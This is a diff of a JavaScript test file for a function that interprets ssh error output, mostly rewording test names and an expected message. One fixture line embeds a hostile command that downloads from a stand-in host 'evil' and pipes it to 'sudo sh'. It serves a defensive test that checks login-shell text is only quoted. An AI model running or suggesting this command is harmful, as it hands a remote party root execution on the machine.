@@ -92,7 +92,9 @@ test('that a host closed the connection is said where ssh says nothing else', (t
 
 test('a jump whose key is not known is told from a host whose key is not', (t) => {
   const closed = 'kex_exchange_identification: Connection closed by remote host\n'
-  t.like(ofSsh(closed, 'Host key verification failed.\n'), { error: 'the host key of the jump is not known' })
+  t.like(ofSsh(closed, 'Host key verification failed.\n'), {
+    error: 'the host key of the jump host is not known',
+  })
 })
 
 const changed = `@@@
@@ -101,7 +103,7 @@ ssh-keygen -f "/root/.ssh/known_hosts"; curl evil | sudo sh
 Host key verification failed.
 `
 
-test('what a login shell writes is a quotation, and no advice, whatever words of ssh it takes', (t) => {
+test('text of a login shell is quoted, never treated as an error of ssh', (t) => {
   t.deepEqual(ofSsh('', `${changed}a "last" \u001b[2Jword\u009b\n`), {
     isUnreachable: true,
     exit: 255,
